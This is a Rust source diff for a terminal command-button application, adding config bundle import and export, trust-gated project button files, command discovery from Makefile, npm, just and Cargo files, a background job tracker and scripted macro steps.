+/// Name for a duplicated entry: `name (imported)`, or `name (imported 2)`
+/// and so on if that is taken too
+fn imported_name(name: &str, taken: impl Fn(&str) -> bool) -> String {
+    let base = format!("{name}{IMPORT_DUPLICATE_SUFFIX}");
+    let suffix = IMPORT_DUPLICATE_SUFFIX.trim_end_matches(')');
+    std::iter::once(base)
+        .chain((2..).map(|n| format!("{name}{suffix} {n})")))
+        .find(|candidate| !taken(candidate))
+        .expect("some numbered name is free")
+}
+
+impl AppState {
+    /// Exports the selected sections into a bundle
+    pub fn export_bundle(&self, sections: &[BundleSection]) -> ConfigBundle {
+        let has = |section| sections.contains(&section);
+        ConfigBundle {
+            schema_version: SCHEMA_VERSION,
+            buttons: has(BundleSection::Buttons).then(|| {
+                self.button_manager
+                    .buttons
+                    .iter()
+                    .map(CommandButton::definition)
+                    .collect()
+            }),
+            groups: has(BundleSection::Buttons).then(|| self.button_manager.groups.clone()),
+            terminal_config: has(BundleSection::TerminalConfig)
+                .then(|| self.terminal_config.clone()),
+            profiles: has(BundleSection::Profiles).then(|| self.profiles.clone()),
+            themes: has(BundleSection::Themes).then(|| self.themes.clone()),
+        }
+    }
+
+    /// Finds the existing button an imported one would clash with, by ID first and then by name
+    fn matching_button(&self, imported: &CommandButton) -> Option<&CommandButton> {
+        let buttons = &self.button_manager.buttons;
+        buttons
+            .iter()
+            .find(|b| b.id == imported.id)
+            .or_else(|| buttons.iter().find(|b| b.name == imported.name))
+    }
+
+    /// Describes what importing a bundle would add, change or conflict with
+    pub fn preview_import(&self, bundle: &ConfigBundle) -> Vec<ImportItem> {
+        let mut items = Vec::new();
+
+        for button in bundle.buttons.iter().flatten() {
+            let change = match self.matching_button(button) {
+                None => ImportChange::Added,
+                Some(existing) if existing.definition() == button.definition() => {
+                    ImportChange::Unchanged
+                }
+                Some(_) => ImportChange::Conflict,
+            };
+            items.push(ImportItem {
+                kind: ImportItemKind::Button,
+                key: button.id.clone(),
+                name: button.name.clone(),
+                change,
+            });
+        }
+
+        if let Some(config) = &bundle.terminal_config {
+            let change = if *config == self.terminal_config {
+                ImportChange::Unchanged
+            } else {
+                ImportChange::Changed
+            };
+            items.push(ImportItem {
+                kind: ImportItemKind::TerminalConfig,
+                key: "terminal_config".to_string(),
+                name: "Terminal settings".to_string(),
+                change,
+            });
+        }
+
+        for profile in bundle.profiles.iter().flatten() {
+            let change = match self.get_profile(&profile.name) {
+                None => ImportChange::Added,
+                Some(existing) if existing == profile => ImportChange::Unchanged,
+                Some(_) => ImportChange::Conflict,
+            };
+            items.push(ImportItem {
+                kind: ImportItemKind::Profile,
+                key: profile.name.clone(),
+                name: profile.name.clone(),
+                change,
+            });
+        }
+
+        for theme in bundle.themes.iter().flatten() {
+            let change = match self.user_theme(&theme.name) {
+                None => ImportChange::Added,
+                Some(existing) if existing == theme => ImportChange::Unchanged,
+                Some(_) => ImportChange::Conflict,
+            };
+            items.push(ImportItem {
+                kind: ImportItemKind::Theme,
+                key: theme.name.clone(),
+                name: theme.name.clone(),
+                change,
+            });
+        }
+
+        items
+    }
+
+    /// Applies a bundle. Conflicts are resolved by the item's kind and key
+    /// in `resolutions`; unresolved conflicts are kept. Terminal settings
+    /// are overwritten unless resolved as `Keep`. Nothing is imported if
+    /// any item in the bundle is invalid.
+    pub fn apply_import(
+        &mut self,
+        bundle: &ConfigBundle,
+        resolutions: &[ImportResolution],
+    ) -> Result<ImportSummary, AppError> {
+        bundle.validate()?;
+        let resolve = |kind: ImportItemKind, key: &str| {
+            resolutions
+                .iter()
+                .find(|r| r.kind == kind && r.key == key)
+                .map(|r| r.resolution)
+        };
+        let mut summary = ImportSummary::default();
+
+        // Groups only give imported buttons somewhere to live, so existing ones win
+        for group in bundle.groups.iter().flatten() {
+            if self.button_manager.get_group(&group.id).is_none() {
+                self.button_manager.groups.push(group.clone());
+            }
+        }
+
+        for button in bundle.buttons.iter().flatten() {
+            let existing_id = match self.matching_button(button) {
+                None => {
+                    self.button_manager.buttons.push(button.definition());
+                    summary.added += 1;
+                    continue;
+                }
+                Some(existing) if existing.definition() == button.definition() => continue,
+                Some(existing) => existing.id.clone(),
+            };
+            match resolve(ImportItemKind::Button, &button.id).unwrap_or(ConflictResolution::Keep) {
+                ConflictResolution::Keep => summary.kept += 1,
+                ConflictResolution::Overwrite => {
+                    if let Some(existing) = self
+                        .button_manager
+                        .buttons
+                        .iter_mut()
+                        .find(|b| b.id == existing_id)
+                    {
+                        *existing = CommandButton {
+                            id: existing_id,
+                            use_count: existing.use_count,
+                            last_used_ms: existing.last_used_ms,
+                            ..button.definition()
+                        };
+                    }
+                    summary.overwritten += 1;
+                }
+                ConflictResolution::Duplicate => {
+                    let mut copy = button.definition();
+                    copy.id = Uuid::new_v4().to_string();
+                    copy.name = imported_name(&button.name, |name| {
+                        self.button_manager.buttons.iter().any(|b| b.name == name)
+                    });
+                    self.button_manager.buttons.push(copy);
+                    summary.duplicated += 1;
+                }
+            }
+        }
+
+        // A shortcut taken by a built-in or an earlier button is dropped, so
+        // the config still loads
+        let mut keybindings = Keybindings::builtin();
+        for button in &mut self.button_manager.buttons {
+            if keybindings.bind_button(button).is_err() {
+                button.accelerator = None;
+            }
+        }
+
+        if let Some(config) = &bundle.terminal_config {
+            if *config != self.terminal_config {
+                if resolve(ImportItemKind::TerminalConfig, "terminal_config")
+                    == Some(ConflictResolution::Keep)
+                {
+                    summary.kept += 1;
+                } else {
+                    self.terminal_config = config.clone();
+                    summary.overwritten += 1;
+                }
+            }
+        }
+
+        for profile in bundle.profiles.iter().flatten() {
+            let index = match self.profiles.iter().position(|p| p.name == profile.name) {
+                None => {
+                    self.profiles.push(profile.clone());
+                    summary.added += 1;
+                    continue;
+                }
+                Some(index) if self.profiles[index] == *profile => continue,
+                Some(index) => index,
+            };
+            match resolve(ImportItemKind::Profile, &profile.name)
+                .unwrap_or(ConflictResolution::Keep)
+            {
+                ConflictResolution::Keep => summary.kept += 1,
+                ConflictResolution::Overwrite => {
+                    self.profiles[index] = profile.clone();
+                    summary.overwritten += 1;
+                }
+                ConflictResolution::Duplicate => {
+                    let mut copy = profile.clone();
+                    copy.name =
+                        imported_name(&profile.name, |name| self.get_profile(name).is_some());
+                    self.profiles.push(copy);
+                    summary.duplicated += 1;
+                }
+            }
+        }
+
+        // Themes clash by name regardless of case, as in `add_theme`
+        for theme in bundle.themes.iter().flatten() {
+            match self.user_theme(&theme.name) {
+                None => {
+                    self.add_theme(theme.clone(), false)?;
+                    summary.added += 1;
+                    continue;
+                }
+                Some(existing) if existing == theme => continue,
+                Some(_) => {}
+            }
+            match resolve(ImportItemKind::Theme, &theme.name).unwrap_or(ConflictResolution::Keep) {
+                ConflictResolution::Keep => summary.kept += 1,
+                ConflictResolution::Overwrite => {
+                    self.add_theme(theme.clone(), true)?;
+                    summary.overwritten += 1;
+                }
+                ConflictResolution::Duplicate => {
+                    let mut copy = theme.clone();
+                    copy.name = imported_name(&theme.name, |name| self.user_theme(name).is_some());
+                    self.add_theme(copy, false)?;
+                    summary.duplicated += 1;
+                }
+            }
+        }
+
+        Ok(summary)
+    }
+}
+
+/// Names of project files, in order of preference
+pub const PROJECT_FILE_NAMES: &[&str] = &[".termos.toml", ".termos.json"];
+
+/// ID of the group project buttons are shown in
+pub const PROJECT_GROUP_ID: &str = "project";
+
+/// Prefix of project button IDs, keeping them apart from the user's buttons
+const PROJECT_BUTTON_PREFIX: &str = "project:";
+
+/// Finds the project file for `dir`: the first one in `dir` or its ancestors
+pub fn find_project_file(dir: &Path) -> Option<PathBuf> {
+    dir.ancestors().find_map(|ancestor| {
+        PROJECT_FILE_NAMES
+            .iter()
+            .map(|name| ancestor.join(name))
+            .find(|path| path.is_file())
+    })
+}
+
+/// SHA-256 of a file's contents, as lowercase hex
+pub fn content_hash(source: &str) -> String {
+    Sha256::digest(source.as_bytes())
+        .iter()
+        .map(|byte| format!("{byte:02x}"))
+        .collect()
+}
+
+#[derive(Debug, Deserialize)]
+struct ProjectFile {
+    #[serde(default)]
+    buttons: Vec<Map<String, Value>>,
+}
+
+/// Buttons shipped in a repository's `.termos.toml` or `.termos.json`
+#[derive(Debug, Clone, Serialize, PartialEq)]
+pub struct Project {
+    /// Path of the project file
+    pub path: String,
+    /// Directory holding the project file
+    pub root: String,
+    /// Content hash the user has to trust before the buttons can run
+    pub hash: String,
+    pub trusted: bool,
+    pub group: ButtonGroup,
+    pub buttons: Vec<CommandButton>,
+}
+
+impl Project {
+    /// Parses a project file. Buttons go in the project group, get an ID
+    /// from their name if they have none, and run in the project root
+    /// unless they set a `cwd`. `trusted_projects` is
+    /// `AppState::trusted_projects`.
+    pub fn parse(
+        path: &Path,
+        source: &str,
+        trusted_projects: &BTreeMap<String, String>,
+    ) -> Result<Self, AppError> {
+        let file: ProjectFile = if path.extension().is_some_and(|ext| ext == "json") {
+            serde_json::from_str(source)?
+        } else {
+            toml::from_str(source).map_err(|e| AppError::config_parse(source, e))?
+        };
+        let root = path
+            .parent()
+            .unwrap_or(Path::new(""))
+            .to_string_lossy()
+            .into_owned();
+        let path = path.to_string_lossy().into_owned();
+        let hash = content_hash(source);
+
+        let mut buttons = Vec::new();
+        for mut fields in file.buttons {
+            let id = match (fields.get("id"), fields.get("name")) {
+                (Some(Value::String(id)), _) | (None, Some(Value::String(id))) => id.clone(),
+                _ => {
+                    return Err(AppError::InvalidDocument(
+                        "project buttons need an id or name".to_string(),
+                    ))
+                }
+            };
+            fields.insert(
+                "id".into(),
+                Value::String(format!("{PROJECT_BUTTON_PREFIX}{id}")),
+            );
+            let mut button: CommandButton = serde_json::from_value(Value::Object(fields))?;
+            button.validate()?;
+            button.group_id = Some(PROJECT_GROUP_ID.to_string());
+            button.use_count = 0;
+            button.last_used_ms = None;
+            if button.cwd.is_none() {
+                button.cwd = Some(root.clone());
+            }
+            buttons.push(button);
+        }
+
+        Ok(Self {
+            trusted: trusted_projects.get(&path) == Some(&hash),
+            group: ButtonGroup {
+                id: PROJECT_GROUP_ID.to_string(),
+                name: "Project".to_string(),
+                icon: None,
+                collapsed: false,
+                parent_id: None,
+            },
+            path,
+            root,
+            hash,
+            buttons,
+        })
+    }
+
+    /// Returns true if `id` names a project button rather than one of the user's
+    pub fn is_project_button(id: &str) -> bool {
+        id.starts_with(PROJECT_BUTTON_PREFIX)
+    }
+
+    /// Gets a project button by ID
+    pub fn get_button(&self, id: &str) -> Option<&CommandButton> {
+        self.buttons.iter().find(|b| b.id == id)
+    }
+
+    /// Gets a project button that may run, failing if the file isn't trusted
+    pub fn runnable_button(&self, id: &str) -> Result<&CommandButton, AppError> {
+        if !self.trusted {
+            return Err(AppError::UntrustedProject(self.path.clone()));
+        }
+        self.get_button(id)
+            .ok_or_else(|| AppError::ButtonNotFound(id.to_owned()))
+    }
+}
+
+/// Tool whose configuration discovered commands are read from
+#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq, Hash)]
+#[serde(rename_all = "snake_case")]
+pub enum CommandSource {
+    Make,
+    Npm,
+    Just,
+    Cargo,
+}
+
+impl CommandSource {
+    /// Every source, in the order suggestions are listed
+    pub const ALL: [CommandSource; 4] = [Self::Make, Self::Npm, Self::Just, Self::Cargo];
+
+    /// File names the source is read from, relative to the directory, in
+    /// order of preference
+    pub fn file_names(self) -> &'static [&'static str] {
+        match self {
+            Self::Make => &["GNUmakefile", "makefile", "Makefile"],
+            Self::Npm => &["package.json"],
+            Self::Just => &["justfile", ".justfile", "Justfile"],
+            Self::Cargo => &[".cargo/config.toml", ".cargo/config"],
+        }
+    }
+
+    /// Name used as the suggested buttons' tag and in their IDs
+    pub fn tag(self) -> &'static str {
+        match self {
+            Self::Make => "make",
+            Self::Npm => "npm",
+            Self::Just => "just",
+            Self::Cargo => "cargo",
+        }
+    }
+
+    /// Parses a source file into `(name, command)` pairs
+    pub fn parse(self, source: &str) -> Result<Vec<(String, String)>, AppError> {
+        let (names, program) = match self {
+            Self::Make => (parse_makefile_targets(source), "make"),
+            Self::Npm => (parse_package_scripts(source)?, "npm run"),
+            Self::Just => return Ok(parse_just_recipes(source)),
+            Self::Cargo => (parse_cargo_aliases(source)?, "cargo"),
+        };
+        Ok(names
+            .into_iter()
+            .map(|name| {
+                let command = format!("{program} {name}");
+                (name, command)
+            })
+            .collect())
+    }
+}
+
+/// Returns true if `name` can be put in a command without quoting
+fn is_plain_name(name: &str) -> bool {
+    !name.is_empty()
+        && name
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "_-.:/@+".contains(c))
+}
+
+/// Makefile targets that can be run by name, skipping special targets like
+/// `.PHONY`, pattern rules and variable assignments
+pub fn parse_makefile_targets(source: &str) -> Vec<String> {
+    let mut targets: Vec<String> = Vec::new();
+    let mut in_define = false;
+    for line in source.lines() {
+        let trimmed = line.trim();
+        if in_define {
+            in_define = trimmed != "endef";
+            continue;
+        }
+        if trimmed == "define" || trimmed.starts_with("define ") {
+            in_define = true;
+            continue;
+        }
+        if line.starts_with(['\t', ' ', '#']) {
+            continue;
+        }
+        let Some((names, rest)) = line.split_once(':') else {
+            continue;
+        };
+        if names.contains(['=', '#']) || rest.trim_start_matches(':').starts_with('=') {
+            continue;
+        }
+        for name in names.split_whitespace() {
+            if is_plain_name(name) && !name.starts_with('.') && !targets.iter().any(|t| t == name) {
+                targets.push(name.to_string());
+            }
+        }
+    }
+    targets
+}
+
+/// Script names from a `package.json`
+pub fn parse_package_scripts(source: &str) -> Result<Vec<String>, AppError> {
+    let package: Value = serde_json::from_str(source)?;
+    Ok(match package.get("scripts") {
+        Some(Value::Object(scripts)) => scripts
+            .keys()
+            .filter(|name| is_plain_name(name))
+            .cloned()
+            .collect(),
+        _ => Vec::new(),
+    })
+}
+
+/// Alias names from the `[alias]` table of a Cargo config
+pub fn parse_cargo_aliases(source: &str) -> Result<Vec<String>, AppError> {
+    let config: toml::Table =
+        toml::from_str(source).map_err(|e| AppError::config_parse(source, e))?;
+    Ok(match config.get("alias") {
+        Some(toml::Value::Table(aliases)) => aliases
+            .keys()
+            .filter(|name| is_plain_name(name))
+            .cloned()
+            .collect(),
+        _ => Vec::new(),
+    })
+}
+
+/// Public justfile recipes as `(name, command)` pairs. Recipe parameters
+/// become template variables, so running the button prompts for them.
+fn parse_just_recipes(source: &str) -> Vec<(String, String)> {
+    let mut recipes = Vec::new();
+    let mut private = false;
+    for line in source.lines() {
+        if line.starts_with([' ', '\t', '#']) || line.trim().is_empty() {
+            continue;
+        }
+        if line.starts_with('[') {
+            private |= line.contains("private");
+            continue;
+        }
+        let is_private = std::mem::take(&mut private);
+        let Some((header, rest)) = split_unquoted(line, ':') else {
+            continue;
+        };
+        if rest.starts_with('=') {
+            continue;
+        }
+        let mut words = split_words(header.trim_start_matches('@'));
+        if words.is_empty() {
+            continue;
+        }
+        let name = words.remove(0);
+        let keyword = ["alias", "set", "export", "import", "mod"].contains(&name.as_str());
+        if keyword || is_private || name.starts_with('_') || !is_plain_name(&name) {
+            continue;
+        }
+
+        let mut command = format!("just {name}");
+        for param in words {
+            let param = param.trim_start_matches('$');
+            let variable = if let Some(param) = param.strip_prefix('*') {
+                format!("{{{{{}?|raw}}}}", param.trim_start_matches('$'))
+            } else if let Some(param) = param.strip_prefix('+') {
+                format!("{{{{{}|raw}}}}", param.trim_start_matches('$'))
+            } else if let Some((param, default)) = param.split_once('=') {
+                match default
+                    .strip_prefix(['"', '\''])
+                    .and_then(|d| d.strip_suffix(['"', '\'']))
+                {
+                    Some(default) if is_plain_name(default) => format!("{{{{{param}:{default}}}}}"),
+                    _ => format!("{{{{{param}}}}}"),
+                }
+            } else {
+                format!("{{{{{param}}}}}")
+            };
+            command.push(' ');
+            command.push_str(&variable);
+        }
+        recipes.push((name, command));
+    }
+    recipes
+}
+
+/// Splits at the first `delimiter` outside single or double quotes
+fn split_unquoted(text: &str, delimiter: char) -> Option<(&str, &str)> {
+    let mut quote = None;
+    for (i, c) in text.char_indices() {
+        match quote {
+            Some(q) if c == q => quote = None,
+            Some(_) => {}
+            None if c == '"' || c == '\'' => quote = Some(c),
+            None if c == delimiter => return Some((&text[..i], &text[i + 1..])),
+            None => {}
+        }
+    }
+    None
+}
+
+/// Splits at whitespace outside single or double quotes
+fn split_words(text: &str) -> Vec<String> {
+    let mut words = Vec::new();
+    let mut rest = text.trim();
+    while !rest.is_empty() {
+        let (word, tail) = split_unquoted(rest, ' ').unwrap_or((rest, ""));
+        if !word.is_empty() {
+            words.push(word.to_string());
+        }
+        rest = tail.trim_start();
+    }
+    words
+}
+
+/// Commands found in a directory, ready to be adopted as buttons
+#[derive(Debug, Clone, Default, Serialize, PartialEq)]
+pub struct Discovery {
+    pub buttons: Vec<CommandButton>,
+    /// Source files that couldn't be parsed, with the reason
+    pub errors: Vec<String>,
+}
+
+/// Discovered commands by source file, reused until the file's
+/// modification time changes
+#[derive(Debug, Default)]
+pub struct DiscoveryCache {
+    entries: HashMap<PathBuf, (SystemTime, Vec<CommandButton>)>,
+}
+
+impl DiscoveryCache {
+    /// Creates an empty cache
+    pub fn new() -> Self {
+        Self::default()
+    }
+
+    /// Discovers the commands in `dir`. Each suggested button is named after
+    /// its target or script, tagged with its source and runs in `dir`.
+    pub fn discover(&mut self, dir: &Path) -> Discovery {
+        let mut discovery = Discovery::default();
+        for source in CommandSource::ALL {
+            let Some((path, modified)) = source.file_names().iter().find_map(|name| {
+                let path = dir.join(name);
+                let metadata = std::fs::metadata(&path).ok().filter(|m| m.is_file())?;
+                Some((path, metadata.modified().ok()?))
+            }) else {
+                continue;
+            };
+            if let Some((cached, buttons)) = self.entries.get(&path) {
+                if *cached == modified {
+                    discovery.buttons.extend(buttons.iter().cloned());
+                    continue;
+                }
+            }
+
+            self.entries.remove(&path);
+            let text = match std::fs::read_to_string(&path) {
+                Ok(text) => text,
+                Err(e) => {
+                    discovery.errors.push(format!("{}: {e}", path.display()));
+                    continue;
+                }
+            };
+            let buttons = source.parse(&text).and_then(|commands| {
+                commands
+                    .into_iter()
+                    .map(|(name, command)| suggested_button(source, dir, name, command))
+                    .collect::<Result<Vec<_>, _>>()
+            });
+            match buttons {
+                Ok(buttons) => {
+                    discovery.buttons.extend(buttons.iter().cloned());
+                    self.entries.insert(path, (modified, buttons));
+                }
+                Err(e) => discovery.errors.push(format!("{}: {e}", path.display())),
+            }
+        }
+        discovery
+    }
+}
+
+/// Builds the button suggested for a discovered command
+fn suggested_button(
+    source: CommandSource,
+    dir: &Path,
+    name: String,
+    command: String,
+) -> Result<CommandButton, AppError> {
+    let id = format!("discovered:{}:{name}", source.tag());
+    let mut button = CommandButton::with_id(id, name, command);
+    button.tags = vec![source.tag().to_string()];
+    button.cwd = Some(dir.to_string_lossy().into_owned());
+    button.validate()?;
+    Ok(button)
+}
+
+/// Lifecycle of a background job
+#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum JobStatus {
+    Queued,
+    Running,
+    Succeeded,
+    Failed,
+    Cancelled,
+}
+
+impl JobStatus {
+    /// Returns true once the job can no longer change
+    pub fn is_finished(self) -> bool {
+        matches!(
+            self,
+            JobStatus::Succeeded | JobStatus::Failed | JobStatus::Cancelled
+        )
+    }
+}
+
+/// Which pipe a line of job output came from
+#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum OutputStream {
+    Stdout,
+    Stderr,
+}
+
+/// One line of captured job output
+#[derive(Debug, Clone, Serialize, PartialEq)]
+pub struct JobOutputLine {
+    /// Position in the job's full output, counting lines that were dropped
+    pub index: usize,
+    pub stream: OutputStream,
+    /// Milliseconds since the Unix epoch
+    pub timestamp_ms: u64,
+    pub text: String,
+}
+
+/// A command running outside a terminal. Times are milliseconds since the Unix epoch.
+#[derive(Debug, Clone, Serialize, PartialEq)]
+pub struct Job {
+    pub id: String,
+    pub name: String,
+    pub command: String,
+    pub button_id: Option<String>,
+    pub status: JobStatus,
+    pub exit_code: Option<i32>,
+    pub queued_at_ms: u64,
+    pub started_at_ms: Option<u64>,
+    pub finished_at_ms: Option<u64>,
+}
+
+/// Most output lines kept per job; older lines are dropped first
+pub const JOB_OUTPUT_LIMIT: usize = 10_000;
+
+/// Most finished jobs kept; the oldest are forgotten first
+pub const FINISHED_JOB_LIMIT: usize = 50;
+
+#[derive(Debug, Clone, Default)]
+struct JobOutput {
+    lines: VecDeque<JobOutputLine>,
+    next_index: usize,
+}
+
+/// Tracks background jobs and their captured output
+#[derive(Debug, Clone, Default)]
+pub struct JobManager {
+    jobs: Vec<Job>,
+    outputs: HashMap<String, JobOutput>,
+}
+
+impl JobManager {
+    /// Creates a new empty JobManager
+    pub fn new() -> Self {
+        Self::default()
+    }
+
+    /// Queues a job and returns its ID
+    pub fn create(
+        &mut self,
+        name: String,
+        command: String,
+        button_id: Option<String>,
+        now_ms: u64,
+    ) -> String {
+        self.forget_old_jobs();
+        let id = Uuid::new_v4().to_string();
+        self.jobs.push(Job {
+            id: id.clone(),
+            name,
+            command,
+            button_id,
+            status: JobStatus::Queued,
+            exit_code: None,
+            queued_at_ms: now_ms,
+            started_at_ms: None,
+            finished_at_ms: None,
+        });
+        self.outputs.insert(id.clone(), JobOutput::default());
+        id
+    }
+
+    /// Marks a queued job as running
+    pub fn start(&mut self, id: &str, now_ms: u64) -> Result<&Job, AppError> {
+        let job = self.unfinished_job_mut(id)?;
+        job.status = JobStatus::Running;
+        job.started_at_ms = Some(now_ms);
+        Ok(job)
+    }
+
+    /// Records a line of output
+    pub fn append_output(
+        &mut self,
+        id: &str,
+        stream: OutputStream,
+        text: String,
+        now_ms: u64,
+    ) -> Result<JobOutputLine, AppError> {
+        let output = self
+            .outputs
+            .get_mut(id)
+            .ok_or_else(|| AppError::JobNotFound(id.to_owned()))?;
+        let line = JobOutputLine {
+            index: output.next_index,
+            stream,
+            timestamp_ms: now_ms,
+            text,
+        };
+        output.next_index += 1;
+        output.lines.push_back(line.clone());
+        if output.lines.len() > JOB_OUTPUT_LIMIT {
+            output.lines.pop_front();
+        }
+        Ok(line)
+    }
+
+    /// Records that the process exited. A job that was cancelled stays cancelled.
+    pub fn finish(
+        &mut self,
+        id: &str,
+        exit_code: Option<i32>,
+        now_ms: u64,
+    ) -> Result<&Job, AppError> {
+        let job = self.job_mut(id)?;
+        if job.status != JobStatus::Cancelled {
+            job.status = if exit_code == Some(0) {
+                JobStatus::Succeeded
+            } else {
+                JobStatus::Failed
+            };
+            job.finished_at_ms = Some(now_ms);
+        }
+        job.exit_code = exit_code;
+        Ok(job)
+    }
+
+    /// Marks a queued or running job as cancelled
+    pub fn cancel(&mut self, id: &str, now_ms: u64) -> Result<&Job, AppError> {
+        let job = self.unfinished_job_mut(id)?;
+        job.status = JobStatus::Cancelled;
+        job.finished_at_ms = Some(now_ms);
+        Ok(job)
+    }
+
+    /// Gets a job by ID
+    pub fn get(&self, id: &str) -> Option<&Job> {
+        self.jobs.iter().find(|j| j.id == id)
+    }
+
+    /// Gets all jobs, oldest first
+    pub fn list(&self) -> &[Job] {
+        &self.jobs
+    }
+
+    /// Gets the retained output of a job starting at line `from`
+    pub fn output(&self, id: &str, from: usize) -> Result<Vec<JobOutputLine>, AppError> {
+        let output = self
+            .outputs
+            .get(id)
+            .ok_or_else(|| AppError::JobNotFound(id.to_owned()))?;
+        Ok(output
+            .lines
+            .iter()
+            .filter(|line| line.index >= from)
+            .cloned()
+            .collect())
+    }
+
+    fn job_mut(&mut self, id: &str) -> Result<&mut Job, AppError> {
+        self.jobs
+            .iter_mut()
+            .find(|j| j.id == id)
+            .ok_or_else(|| AppError::JobNotFound(id.to_owned()))
+    }
+
+    fn unfinished_job_mut(&mut self, id: &str) -> Result<&mut Job, AppError> {
+        let job = self.job_mut(id)?;
+        if job.status.is_finished() {
+            return Err(AppError::JobFinished {
+                id: id.to_owned(),
+                status: job.status,
+            });
+        }
+        Ok(job)
+    }
+
+    fn forget_old_jobs(&mut self) {
+        let finished = self.jobs.iter().filter(|j| j.status.is_finished()).count();
+        let mut excess = finished.saturating_sub(FINISHED_JOB_LIMIT - 1);
+        let outputs = &mut self.outputs;
+        self.jobs.retain(|job| {
+            if excess > 0 && job.status.is_finished() {
+                excess -= 1;
+                outputs.remove(&job.id);
+                false
+            } else {
+                true
+            }
+        });
+    }
+}
+
+/// Longest a macro waits for output unless the step says otherwise
+pub const DEFAULT_MACRO_TIMEOUT_MS: u64 = 10_000;
+
+/// What `wait_for_prompt` looks for by default: output ending in a typical
+/// prompt character
+pub const DEFAULT_PROMPT_PATTERN: &str = r"[$#%>❯]\s*\z";
+
+/// Most ANSI-stripped output a running macro keeps for matching
+const MACRO_OUTPUT_LIMIT: usize = 64 * 1024;
+
+fn default_macro_timeout_ms() -> u64 {
+    DEFAULT_MACRO_TIMEOUT_MS
+}
+
+fn default_enter() -> bool {
+    true
+}
+
+/// One step of a macro button. Patterns are regular expressions matched
+/// against the tab's output with ANSI escape sequences removed.
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+#[serde(tag = "type", rename_all = "snake_case")]
+pub enum MacroStep {
+    /// Types text into the tab. Template variables are filled in and quoted
+    /// as in commands.
+    Send {
+        text: String,
+        /// Whether Enter is pressed after the text
+        #[serde(default = "default_enter")]
+        enter: bool,
+    },
+    /// Waits until the output since the last step matches `pattern`
+    WaitFor {
+        pattern: String,
+        #[serde(default = "default_macro_timeout_ms")]
+        timeout_ms: u64,
+    },
+    /// Waits until the shell prompt is back, i.e. the last command finished
+    WaitForPrompt {
+        /// Overrides `DEFAULT_PROMPT_PATTERN`
+        #[serde(default, skip_serializing_if = "Option::is_none")]
+        pattern: Option<String>,
+        #[serde(default = "default_macro_timeout_ms")]
+        timeout_ms: u64,
+    },
+    /// Pauses for a while
+    Sleep { ms: u64 },
+    /// Waits for `pattern`, then runs `then` if it appeared in time or `else` if not
+    IfMatch {
+        pattern: String,
+        #[serde(default = "default_macro_timeout_ms")]
+        timeout_ms: u64,
+        #[serde(default, skip_serializing_if = "Vec::is_empty")]
+        then: Vec<MacroStep>,
+        #[serde(default, rename = "else", skip_serializing_if = "Vec::is_empty")]
+        otherwise: Vec<MacroStep>,
+    },
+}
+
+/// Calls `f` on every step, including those inside branches
+fn visit_steps<'a>(steps: &'a [MacroStep], f: &mut impl FnMut(&'a MacroStep)) {
+    for step in steps {
+        f(step);
+        if let MacroStep::IfMatch {
+            then, otherwise, ..
+        } = step
+        {
+            visit_steps(then, f);
+            visit_steps(otherwise, f);
+        }
+    }
+}
+
+/// A macro step with its text rendered and pattern compiled
+#[derive(Debug, Clone)]
+enum PreparedStep {
+    /// Text to type, and the same text with secret values masked for review
+    Send {
+        text: String,
+        shown: String,
+    },
+    Wait {
+        regex: Regex,
+        timeout: Duration,
+    },
+    Sleep(Duration),
+    IfMatch {
+        regex: Regex,
+        timeout: Duration,
+        then: Vec<PreparedStep>,
+        otherwise: Vec<PreparedStep>,
+    },
+}
+
+impl PreparedStep {
+    fn prepare(
+        steps: &[MacroStep],
+        values: &HashMap<String, String>,
+        shell: Shell,
+        secrets: &HashSet<String>,
+    ) -> Result<Vec<Self>, AppError> {
+        steps
+            .iter()
+            .map(|step| {
+                Ok(match step {
+                    MacroStep::Send { text, enter } => {
+                        let template = Template::parse(text)?;
+                        let mut text = template.render_for_shell(values, shell)?;
+                        let mut shown = template.preview_for_shell(values, shell, secrets)?;
+                        if *enter {
+                            text.push('\n');
+                            shown.push('\n');
+                        }
+                        PreparedStep::Send { text, shown }
+                    }
+                    MacroStep::WaitFor {
+                        pattern,
+                        timeout_ms,
+                    } => PreparedStep::Wait {
+                        regex: compile_pattern(pattern)?,
+                        timeout: Duration::from_millis(*timeout_ms),
+                    },
+                    MacroStep::WaitForPrompt {
+                        pattern,
+                        timeout_ms,
+                    } => PreparedStep::Wait {
+                        regex: compile_pattern(
+                            pattern.as_deref().unwrap_or(DEFAULT_PROMPT_PATTERN),
+                        )?,
+                        timeout: Duration::from_millis(*timeout_ms),
+                    },
+                    MacroStep::Sleep { ms } => PreparedStep::Sleep(Duration::from_millis(*ms)),
+                    MacroStep::IfMatch {
+                        pattern,
+                        timeout_ms,
+                        then,
+                        otherwise,
+                    } => PreparedStep::IfMatch {
+                        regex: compile_pattern(pattern)?,
+                        timeout: Duration::from_millis(*timeout_ms),
+                        then: Self::prepare(then, values, shell, secrets)?,
+                        otherwise: Self::prepare(otherwise, values, shell, secrets)?,
+                    },
+                })
+            })
+            .collect()
+    }
+}
+
+/// What a running macro needs next
+#[derive(Debug, Clone, PartialEq)]
+pub enum MacroAction {
+    /// Type this text into the tab, then call `next` again
+    Send(String),
+    /// Feed the tab's output to `push_output` and call `next` again when
+    /// some arrives or at the deadline, whichever comes first
+    Wait(Instant),
+    /// All steps have run
+    Finished,
+}
+
+/// Runs a macro's steps against a tab's output. The caller owns the tab and
+/// the clock: it sends what `next` asks for and feeds output back in.
+#[derive(Debug, Clone)]
+pub struct MacroExecutor {
+    pending: VecDeque<PreparedStep>,
+    /// When the step at the front of `pending` gives up, once it has started
+    deadline: Option<Instant>,
+    /// Output since the last send or match
+    output: String,
+    stripper: AnsiStripper,
+}
+
+impl MacroExecutor {
+    /// Prepares `steps`, filling in template variables quoted for `shell`.
+    /// The values of the variables named in `secrets` are masked in the preview.
+    pub fn new(
+        steps: &[MacroStep],
+        values: &HashMap<String, String>,
+        shell: Shell,
+        secrets: &HashSet<String>,
+    ) -> Result<Self, AppError> {
+        Ok(Self {
+            pending: PreparedStep::prepare(steps, values, shell, secrets)?.into(),
+            deadline: None,
+            output: String::new(),
+            stripper: AnsiStripper::default(),
+        })
+    }
+
